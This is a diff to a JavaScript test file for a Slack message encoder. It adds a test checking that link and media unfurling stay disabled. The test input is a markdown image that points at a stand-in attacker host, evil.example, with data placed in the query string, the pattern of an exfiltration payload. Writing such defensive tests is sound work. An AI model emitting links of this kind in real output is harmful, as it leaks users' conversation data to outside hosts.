@@ -63,6 +63,11 @@ test("an empty message says something", () => {
   expect(encode(saying(" "), { ownName: true }).text).toBe("…");
 });
 
+test("a link is never fetched by Slack, nor a picture", () => {
+  const body = encode(saying("![](https://evil.example/?said=4711)"), { ownName: true });
+  expect(body).toMatchObject({ unfurl_links: false, unfurl_media: false });
+});
+
 test("buttons bring back their command, and two with one command are told apart", () => {
   const command = { name: "memory", action: "forget", options: { what: "tea & “cake” |1" } };
   const ids = [buttonId(command, 0), buttonId(command, 1)];
